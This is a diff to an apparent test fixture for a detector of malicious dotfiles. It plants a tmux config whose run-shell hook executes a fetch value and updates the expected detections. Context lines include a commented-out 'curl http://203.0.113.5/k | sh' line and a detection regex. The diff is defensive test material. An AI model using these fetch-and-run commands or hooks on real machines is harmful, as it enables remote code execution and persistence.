@@ -35,6 +35,7 @@ export const pair: Pair = {
   packaged: { '/usr/bin/w3m': elf('w3m'), '/usr/bin/nc': elf('nc') },
   tree: {
     ...PLANTED,
+    '/var/spool/news/.tmux.conf': `bind r source-file ~/.tmux.conf\nrun-shell \\\n  '${FETCH}'\n`,
     '/home/ann/.vimrc':
       'filetype plugin indent on\nif !exists("g:x")\n  let g:branch = system(\'git rev-parse --abbrev-ref HEAD\')\nendif\nnnoremap <F5> :!make<CR>\nset directory=/tmp//\n',
     '/home/ann/.tmux.conf':
@@ -52,11 +53,19 @@ export const pair: Pair = {
     '/home/ann/.emacs': ';; (shell-command "curl http://203.0.113.5/k | sh")\n(load-theme \'tango)\n',
     '/etc/mailcap': 'text/html; /usr/bin/w3m %s\n',
   },
-  blamed: Object.entries(PLANTED).map(([path, text]) => {
-    const line = text.split('\n').findIndex((one) => /203\.0\.113|\/(dev\/shm|var\/tmp)\//.test(one)) + 1;
-    const code = text.includes(FETCH) ? 'fetch-pipe-shell' : 'temp-folder';
-    return { path, line, verdict: 'malicious', code, attack: 'T1546' };
-  }),
+  blamed: Object.entries(PLANTED)
+    .map(([path, text]) => {
+      const line = text.split('\n').findIndex((one) => /203\.0\.113|\/(dev\/shm|var\/tmp)\//.test(one)) + 1;
+      const code = text.includes(FETCH) ? 'fetch-pipe-shell' : 'temp-folder';
+      return { path, line, verdict: 'malicious', code, attack: 'T1546' } as const;
+    })
+    .concat({
+      path: '/var/spool/news/.tmux.conf',
+      line: 2,
+      verdict: 'malicious',
+      code: 'fetch-pipe-shell',
+      attack: 'T1546',
+    }),
   passed: [
     ...['.vimrc', '.tmux.conf', '.screenrc', '.inputrc', '.mailcap', '.npmrc', '.ssh/config'],
     ...['.gdbinit', '.psqlrc', '.kube/config', '.emacs'],
